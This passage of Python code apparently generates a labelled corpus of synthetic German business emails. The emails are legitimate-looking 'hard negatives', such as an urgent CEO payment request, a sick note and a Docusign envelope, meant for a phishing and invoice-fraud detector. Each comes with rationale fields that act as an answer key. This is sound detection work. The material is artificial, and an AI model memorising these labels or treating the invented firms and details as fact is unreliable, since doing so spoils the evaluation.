die Messe hat uns die größere Fläche in Halle 7A (Stand 7A-214, 180 m²) verbindlich zugesagt – allerdings nur, wenn die Anzahlung heute noch bei ihnen eingeht, sonst geht die Fläche an den Nächsten auf der Liste.

Es geht um die Rechnung 27-AS-04412 der Spielwarenmesse eG über 38.416,50 EUR. Die Rechnung liegt seit letzter Woche im DMS, meine Freigabe im Workflow (Vorgang 2026-1187) ist erfolgt. Bankverbindung bitte wie in den Kreditorenstammdaten, nicht aus irgendeiner Mail übernehmen.

Kannst du das als Eilüberweisung rausgeben? Katrin hat die Bestätigung der Messe im Ordner Messe 2027 abgelegt. Ruf mich gerne kurz an, falls noch etwas fehlt, ich bin bis 14 Uhr im Haus.

Danke dir!
Jürgen

--
Jürgen Höfler
Geschäftsführer
Example Group GmbH · Frankenstraße 152 · 90461 Nürnberg
Tel. +49 911 4470-100"""
    out.append(Msg('business', 'de', 'ceo-eilzahlung-messe-intern',
        what='Internal: the CEO asks the CFO to send the trade-fair deposit (EUR 38,416.50) as an urgent transfer today.',
        why='Genuinely internal (Exchange EX01 -> mail-int01 relay, internal client IP); refers to an invoice already in the DMS and an approved workflow, points to master data for the bank account, invites a phone call. Hard negative of A01 (CEO fraud) and A08.',
        when=(2026, 11, 6, 10, 41, 17), zone='DE', infra=I.internal('b03', '10.20.40.12'),
        frm=JH, to=[SK], cc=[KM], subject='Dringend: Anzahlung Standfläche Spielwarenmesse heute noch raus',
        body=alt(src, 'iso-8859-1', 'quoted-printable', style='outlook'), hcs=OUTLOOK_DE,
        extra=[('X-Priority', '1'), ('Importance', 'high')]))

    # ------------------------------------------------------------------ B04
    src = """Hallo Herr Bäumer,

ich liege seit heute Nacht mit Fieber flach und bin laut Hausarzt heute und morgen krankgeschrieben. Die AU hat die Praxis elektronisch an die Krankenkasse übermittelt.

Meine Termine heute habe ich telefonisch abgesagt, Herr Roth übernimmt den Call mit Spielwaren Kaiser um 11 Uhr. Ich schreibe von privat, weil der Firmenlaptop im Büro liegt.

Viele Grüße
Julia Hartmann"""
    out.append(Msg('business', 'de', 'krankmeldung-private-mail',
        what='Employee Julia Hartmann reports sick from her private WEB.DE address.',
        why='Plausible private-mail sick note via WEB.DE webmail from a German residential IP; asks for nothing (no bank data, no payment, no link); eAU is handled by the health insurer. Hard negative of A07 (payroll diversion from freemail).',
        when=(2026, 11, 16, 7, 12, 3), zone='DE', infra=I.gmx('b04', '91.64.187.23', webde=True),
        frm=(JU[0], 'julia.hartmann79@web.de'), to=[TB], cc=[DR], subject='Krankmeldung Julia Hartmann',
        body=alt(src, 'UTF-8', 'quoted-printable', style='simple', quote_cs=False), hcs=('UTF-8', 'Q')))

    # ------------------------------------------------------------------ B05
    src = """Liebe Kolleginnen und Kollegen,

ab dem 16.11.2026 stellen wir die Anmeldung mit dem Microsoft Authenticator auf "Number Matching" um. Für die meisten von Ihnen ändert sich nur eine Kleinigkeit: Bei der Anmeldung wird eine zweistellige Zahl angezeigt, die Sie in der App eintippen.

Eine Neuregistrierung ist NICHT erforderlich. Wer ein neues Smartphone hat, registriert die App selbst unter [[Sicherheitsinformationen|https://mysignins.microsoft.com/security-info]] oder kommt zu uns an den IT-Schalter (2. OG, Raum 2.14).

Wichtig: Wir verschicken niemals QR-Codes per E-Mail und setzen keine Fristen mit Kontosperrung. In den letzten Wochen sind vermehrt gefälschte "IT-Service"-Mails mit QR-Codes im Umlauf. Bitte scannen Sie solche Codes nicht, sondern melden Sie die Mail über den Button "Phishing melden" in Outlook.

Fragen gerne an it-service@example.com oder Durchwahl 4400.

Viele Grüße
Lukas Vogt
IT-Sicherheit
Example Group GmbH"""
    out.append(Msg('business', 'de', 'it-hinweis-authenticator-intern',
        what='Internal IT notice: Microsoft Authenticator switches to number matching; warns about QR-code phishing.',
        why='Genuinely internal via Exchange and mail-int01; links only to Microsoft\'s real security-info page; explicitly says no re-registration, no QR codes, no lockout deadlines. Hard negative of A04 (MFA quishing).',
        when=(2026, 10, 29, 13, 5, 0), zone='DE', infra=I.internal('b05', '10.20.40.88', 'EX02'),
        frm=LV, to=[('Alle Mitarbeitenden DE', 'mitarbeiter-de@example.com')], rcpt=TS[1],
        subject='Hinweis: Microsoft Authenticator ab 16.11. mit Zahlenabgleich – keine Neuregistrierung nötig',
        body=alt(src, 'iso-8859-1', 'quoted-printable', style='outlook'), hcs=OUTLOOK_DE))

    # ------------------------------------------------------------------ B06
    q = """Guten Tag Frau Weiß,

die Rechnung 2026-10388 ist am 14.10. per Post und E-Mail an Sie rausgegangen, anbei nochmals als PDF. Die Gutschrift für die Fehlmenge aus Lieferung 80014471 folgt separat.

Freundliche Grüße
Buchhaltung
Kartonagen Weber GmbH"""
    src = """Guten Tag Frau Weiß,

trotz unserer Zahlungserinnerung vom 10.11.2026 sind folgende Rechnungen weiterhin offen:

2026-10388 vom 14.10.2026 – 18.742,60 EUR – fällig seit 13.11.2026
2026-10412 vom 16.10.2026 – 6.118,20 EUR – fällig seit 15.11.2026

Bitte gleichen Sie den Gesamtbetrag von 24.860,80 EUR bis spätestens 08.12.2026 aus. Andernfalls sind wir leider gezwungen, die für KW 50 geplanten Auslieferungen der Faltschachteln "Lokomotive Lina" und "Bauernhof-Set" bis zum Zahlungseingang zurückzuhalten.

Wichtig: Unsere Bankverbindung hat sich NICHT geändert. Ende Oktober wurden aus unserem Buchhaltungspostfach betrügerische E-Mails mit einer abweichenden Kontoverbindung versandt. Falls Sie eine solche Nachricht erhalten oder bereits eine Zahlung dorthin veranlasst haben, rufen Sie uns bitte umgehend an (09122 8831-0). Zahlungen bitte ausschließlich an:

Sparkasse Mittelfranken-Süd
IBAN: %s
BIC: BYLADEM1SRS

Freundliche Grüße
Buchhaltung
Kartonagen Weber GmbH
Am Falbenholzweg 21 · 91126 Schwabach
Geschäftsführer: Frank Weber · AG Nürnberg HRB 20917 · USt-IdNr. %s""" % (pretty(BANK['weber']), TAX['weber'])
    src += quote_outlook('de', 'Buchhaltung <buchhaltung@kartonagen-weber.de>', 'Freitag, 16. Oktober 2026 11:02',
                         'Monika Weiß <monika.weiss@example.com>', 'AW: Rechnung 2026-10388 / Bestellung 4500021877', q)
    out.append(Msg('business', 'de', 'kartonagen-weber-mahnung-liefersperre',
        what='Kartonagen Weber sends a second reminder for two overdue invoices and threatens to hold deliveries; warns that fraudulent mails with another IBAN came from its mailbox.',
        why='Real domain via its Microsoft 365 tenant, no look-alike Reply-To; the IBAN is the known Sparkasse account; the supply stop is a normal commercial threat; gives a phone number. Hard negative of A03.',
        when=(2026, 12, 1, 9, 14, 26), zone='DE', infra=I.m365('b06', 'kartonagen-weber.de', idx=1),
        frm=('Buchhaltung Kartonagen Weber', 'buchhaltung@kartonagen-weber.de'), to=[MW],
        cc=[('Frank Weber', 'f.weber@kartonagen-weber.de'), ME],
        subject='2. Mahnung: offene Rechnungen 2026-10388 / 2026-10412 – Lieferstopp ab 09.12.2026',
        in_reply_to='<AM9PR04MB81802A7C3E0B41D6F1C2AA9E84D42@AM9PR04MB8180.eurprd04.prod.outlook.com>',
        references='<8f0c1d2e3a4b4c5d9e7f6a1b2c3d4e5f@EX01.ad.example.com>\n <AM9PR04MB81802A7C3E0B41D6F1C2AA9E84D42@AM9PR04MB8180.eurprd04.prod.outlook.com>',
        body=alt(src, 'iso-8859-1', 'quoted-printable', style='outlook'), hcs=OUTLOOK_DE))

    # ------------------------------------------------------------------ B07
    uid = 'a7c31e9f02b4d6581c3e2f9a0'
    lid = '5e2b91c4d7'
    unsub = 'https://spielwarenmesse.us21.list-manage.com/unsubscribe?u=%s&id=%s&e=%s&c=%s' % (
        uid, lid, hhex('b07e', 10), hhex('b07c', 10))
    trk = lambda n: 'https://spielwarenmesse.us21.list-manage.com/track/click?u=%s&id=%s&e=%s' % (
        uid, hhex('b07trk%d' % n, 10), hhex('b07e', 10))
    src = """Liebe Ausstellerinnen und Aussteller,

noch 66 Tage bis zur Spielwarenmesse 2027! Hier die wichtigsten Termine und Services für Ihre Messevorbereitung:

**Ausstellerausweise:** Ihr Kontingent steht ab sofort im Ausstellerportal bereit. [[Zum Ausstellerportal|%s]]

**Standbau:** Die Pläne für zweigeschossige Stände müssen bis 04.12.2026 bei der Technischen Abteilung vorliegen.

**ToyAward 2027:** Einreichungen sind noch bis 27.11.2026 möglich. [[Jetzt Produkt einreichen|%s]]

**Anreise:** Die Messe-Shuttles ab Nürnberg Hbf fahren an allen Messetagen im 10-Minuten-Takt.

Wir freuen uns auf Sie!
Ihr Team der Spielwarenmesse eG

Spielwarenmesse eG · Herderstraße 7 · 90427 Nürnberg
Sie erhalten diesen Newsletter, weil Sie als Aussteller registriert sind. [[Abmelden|%s]] · [[Profil aktualisieren|https://spielwarenmesse.us21.list-manage.com/profile?u=%s&id=%s]]""" % (trk(1), trk(2), unsub, uid, lid)
    out.append(Msg('business', 'de', 'spielwarenmesse-newsletter',
        what='Subscribed exhibitor newsletter of Spielwarenmesse eG via Mailchimp (badges, stand construction deadlines, ToyAward).',
        why='Sent through Mailchimp with List-Unsubscribe/List-Unsubscribe-Post, links through Mailchimp click tracking (list-manage.com) to spielwarenmesse.de, no credentials requested, no attachment. Hard negative of A08.',
        when=(2026, 11, 22, 8, 0, 5), zone='DE',
        infra=I.mailchimp('b07', 'spielwarenmesse.de', uid, lid),
        frm=('Spielwarenmesse', 'newsletter@spielwarenmesse.de'), to=[AL],
        subject='Noch 66 Tage: Ausstellerausweise, Standbau-Fristen und ToyAward 2027',
        body=alt(src, 'utf-8', 'quoted-printable', style='generic', accent='#c8102e', title='Spielwarenmesse Newsletter'),
        hcs=('utf-8', 'Q'),
        extra=[('List-Unsubscribe', '<%s>,\n <mailto:unsubscribe-mc.us21_%s.%s-%s@unsubscribe.mailchimpapp.net?subject=unsubscribe>'
                % (unsub, uid, lid, hhex('b07x', 8))),
               ('List-Unsubscribe-Post', 'List-Unsubscribe=One-Click'),
               ('Reply-To', 'Spielwarenmesse <aussteller@spielwarenmesse.de>')]))

    # ------------------------------------------------------------------ B08
    env = huuid('b08env')
    acct = huuid('b08acct')
    link = 'https://eu.docusign.net/Signing/EmailStart.aspx?a=%s&etti=24&acct=%s&er=%s' % (env, acct, huuid('b08er'))
    src = """Bernd Kaiser hat Ihnen ein Dokument zum Prüfen und Signieren gesendet.

[[!DOKUMENT PRÜFEN|%s]]

Bernd Kaiser
b.kaiser@spielwaren-kaiser.de

Hallo Frau Hartmann,
anbei wie am Telefon besprochen die Jahresvereinbarung 2027 (Konditionen, WKZ, Retourenregelung) zur Gegenzeichnung. Unsere Unterschrift ist bereits erfolgt.
Beste Grüße
Bernd Kaiser

Diese E-Mail nicht weiterleiten: Diese E-Mail enthält einen sicheren Link zu Docusign. Bitte geben Sie diese E-Mail, den Link oder den Zugriffscode nicht an Dritte weiter.

Alternative Signaturmethode
Besuchen Sie Docusign.com, klicken Sie auf "Zugriff auf Dokumente" und geben Sie den Sicherheitscode ein: %s

Über Docusign
Signieren Sie Dokumente elektronisch in wenigen Minuten. Docusign ist sicher und zuverlässig.

Fragen zu diesem Dokument?
Wenn Sie das Dokument ändern müssen oder Fragen zu den Details haben, wenden Sie sich bitte direkt an den Absender.""" % (link, hhex('b08code', 32, True))
    out.append(Msg('business', 'de', 'docusign-jahresvereinbarung-kaiser',
        what='Genuine Docusign envelope: customer Spielwaren Kaiser KG sends the 2027 annual agreement for counter-signature.',
        why='Sent by Docusign\'s EU mail platform, envelope link on eu.docusign.net, Reply-To is the known customer address, expected after a phone call, no attachment or password prompt. Hard negative of A06 and A11.',
        when=(2026, 12, 3, 15, 37, 9), zone='DE', infra=I.docusign('b08'),
        frm=('Bernd Kaiser über Docusign', 'dse@eumail.docusign.net'), to=[JU],
        reply_to=('Bernd Kaiser', 'b.kaiser@spielwaren-kaiser.de'),
        subject='Bitte mit Docusign unterzeichnen: Jahresvereinbarung_2027_Spielwaren_Kaiser_Example_Group.pdf',
        body=alt(src, 'utf-8', 'quoted-printable', style='generic', accent='#4c00ff', title='Docusign'),
        hcs=('utf-8', 'B')))
    return out


def Part_related(p, h, img):
    from mime import Part
    return Part('multipart/alternative', parts=[p, Part('multipart/related', parts=[h, img],
                                                          params=[('type', 'text/html')])])
